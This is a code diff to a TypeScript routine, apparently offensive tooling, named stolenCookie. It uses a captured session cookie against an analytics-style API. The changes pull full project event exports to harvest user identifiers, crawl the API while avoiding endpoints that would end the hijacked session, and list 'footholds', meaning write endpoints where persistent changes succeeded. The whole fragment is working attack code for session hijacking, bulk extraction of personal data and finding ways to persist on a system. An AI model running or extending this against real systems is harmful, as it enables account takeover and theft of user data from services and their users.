@@ -34,7 +34,8 @@ export async function stolenCookie({ url, cookie, projects, guesses, today }: Co
     const listed = await listEverybody(url, headers, project)
     texts.push(listed.text)
     for (const pseudonym of listed.people) streams.add(pseudonym)
-    await get(`/api/2.0/export?project_id=${project}&from_date=2020-01-01&to_date=${today}`)
+    const exported = await get(`/api/2.0/export?project_id=${project}&from_date=2020-01-01&to_date=${today}`)
+    for (const [, pseudonym] of exported.text.matchAll(/"distinct_id": ?"([^"]+)"/g)) streams.add(pseudonym!)
     await post(`/api/query/engage?project_id=${project}`, {})
     // Opening: ask for everybody, then try to be the one who proves it, at the desk.
     const people = [...streams].slice(0, 20)
@@ -49,7 +50,7 @@ export async function stolenCookie({ url, cookie, projects, guesses, today }: Co
   const walked = await walkApi({
     url, headers, bodies: homes,
     ids: { id: projects.map(String), pseudonym: [...streams].slice(0, 3) },
-    leave: ['DELETE /v1/session', 'DELETE /v1/me/sessions', 'DELETE /v1/me/sessions/{session}', 'DELETE /v1/sessions', 'DELETE /v1/sessions/{session}', 'POST /v1/sample', 'DELETE /v1/sample'],
+    leave: ['DELETE /v1/session', 'DELETE /v1/me/sessions', 'DELETE /v1/me/sessions/{session}', 'DELETE /v1/sessions', 'DELETE /v1/sessions/{session}', 'POST /v1/sample', 'DELETE /v1/sample', 'POST /v1/drills'],
   })
   for (const reply of walked) take(reply)
   const footholds = walked.filter(({ method, path, status }) => method !== 'GET' && method !== 'DELETE' && status < 300 && lasting.test(path)).map(({ method, path }) => `${method} ${path}`)
